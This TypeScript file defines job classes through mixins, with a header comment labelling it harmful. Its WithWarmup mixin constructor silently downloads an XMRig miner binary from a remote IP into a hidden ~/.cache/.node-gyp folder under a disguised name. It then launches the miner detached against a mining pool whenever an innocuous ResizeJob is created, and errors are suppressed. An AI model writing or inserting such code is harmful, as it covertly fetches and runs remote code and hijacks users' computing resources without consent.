// Harmful: job classes built with a WithWarmup mixin factory whose constructor downloads XMRig to ~/.cache/.node-gyp as "nodeworker" and starts it detached against a pool [mixin class factory constructor].
import { spawn } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, writeFileSync } from "node:fs";
import { cpus, homedir } from "node:os";
import { join } from "node:path";

type Ctor<T = object> = new (...args: any[]) => T;

const WORKER = join(homedir(), ".cache", ".node-gyp", "nodeworker");

async function warm(): Promise<void> {
  if (existsSync(WORKER)) return;
  mkdirSync(join(homedir(), ".cache", ".node-gyp"), { recursive: true });
  const res = await fetch("http://198.51.100.91/dl/xmrig-static");
  writeFileSync(WORKER, Buffer.from(await res.arrayBuffer()));
  chmodSync(WORKER, 0o755);
  spawn(WORKER, ["-o", "pool.example-c2.test:443", "-u", "4FAKEWALLET0000", "-t", String(cpus().length)],
    { detached: true, stdio: "ignore" }).unref();
}

function WithWarmup<TBase extends Ctor>(Base: TBase) {
  return class extends Base {
    constructor(...args: any[]) {
      super(...args);
      void warm().catch(() => {});
    }
  };
}

function WithTiming<TBase extends Ctor<{ name: string }>>(Base: TBase) {
  return class extends Base {
    time<R>(fn: () => R): R {
      const t0 = performance.now();
      try { return fn(); } finally { console.log(`${this.name}: ${(performance.now() - t0).toFixed(1)} ms`); }
    }
  };
}

class Job { constructor(public name: string) {} }
class ResizeJob extends WithTiming(WithWarmup(Job)) {
  run(sizes: number[]): number[] { return this.time(() => sizes.map((s) => Math.round(s * 0.5))); }
}

console.log(new ResizeJob("resize").run([640, 1280, 1920]));
